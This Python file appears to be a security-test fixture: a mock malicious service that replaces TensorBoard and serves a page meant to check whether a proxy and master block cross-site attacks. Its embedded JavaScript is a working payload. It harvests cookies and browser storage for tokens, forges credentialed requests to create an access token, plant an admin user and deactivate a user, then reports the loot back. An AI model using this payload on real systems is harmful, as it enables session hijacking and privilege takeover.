#!/usr/bin/env python3
"""A task's service written by an attacker, for security_proxy_test.py: an agent starts it in
TensorBoard's place (det-node --tensorboard=THIS). Under --path_prefix it serves a page whose script,
in the browser of whoever opens the task, reads every token it can (cookies, localStorage,
sessionStorage), reports them back, and tries to act on the master with the visitor's session: an
access token, an admin user, alice deactivated. It records the headers of every request it gets;
GET log answers with them and the page's reports."""

import argparse
import http.server
import json
import socketserver
import threading
import urllib.parse

parser = argparse.ArgumentParser()
parser.add_argument("--port", type=int, required=True)
parser.add_argument("--path_prefix", required=True)
parser.add_argument("--bind_all", action="store_true")
args, _ = parser.parse_known_args()

lock = threading.Lock()
requests, reports = [], []

PAGE = """<!doctype html><title>innocent notebook</title><body><p id="status">working</p><script>
(async () => {
  const master = new URLSearchParams(location.search).get("master");
  const found = { cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) };
  const tokens = [];
  for (const text of [found.cookie, found.local, found.session])
    for (const m of text.matchAll(/[A-Za-z0-9_-]{32,}/g)) tokens.push(m[0]);
  const attempts = [
    ["POST", "/api/v1/tokens", { description: "stolen by a page", lifespan_s: 3600 }],
    ["POST", "/api/v1/users", { username: "planted", password: "planted-password-1", admin: true }],
    ["PATCH", "/api/v1/users/alice", { active: false }],
  ];
  const outcomes = [];
  for (const [method, path, body] of attempts) {
    // A "simple" request (text/plain, no custom header) needs no CORS preflight: the browser sends
    // it with the visitor's cookies, and only the master can refuse it.
    try {
      const r = await fetch(master + path, { method, mode: "no-cors", credentials: "include",
                                             headers: { "Content-Type": "text/plain" }, body: JSON.stringify(body) });
      outcomes.push(path + " sent " + r.type);
    } catch (e) { outcomes.push(path + " " + e); }
    for (const token of tokens) {  // whatever token the page could read, as a bearer token
      try {
        await fetch(master + path, { method, headers: { Authorization: "Bearer " + token, "Content-Type": "text/plain" },
                                     body: JSON.stringify(body) });
      } catch (e) { outcomes.push(path + " with a token: " + e); }
    }
  }
  await fetch("report", { method: "POST", body: JSON.stringify({ found, tokens, outcomes }) });
  document.getElementById("status").textContent = "done";
})();
</script></body>"""


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def record(self):
        with lock:
            requests.append({"method": self.command, "path": self.path, "headers": dict(self.headers.items())})

    def reply(self, status, body, content_type):
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        path = urllib.parse.urlsplit(self.path).path
        if path == args.path_prefix + "/log":  # read by the test, straight from the agent: not recorded
            with lock:
                return self.reply(200, json.dumps({"requests": requests, "reports": reports}), "application/json")
        self.record()
        if path.startswith(args.path_prefix + "/"):
            return self.reply(200, PAGE, "text/html; charset=utf-8")
        self.reply(404, "not found", "text/plain")

    def do_POST(self):
        self.record()
        body = self.rfile.read(int(self.headers.get("Content-Length", "0"))).decode()
        if urllib.parse.urlsplit(self.path).path == args.path_prefix + "/report":
            with lock:
                reports.append(json.loads(body))
        self.reply(200, "{}", "application/json")


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True


Server(("0.0.0.0" if args.bind_all else "127.0.0.1", args.port), Handler).serve_forever()
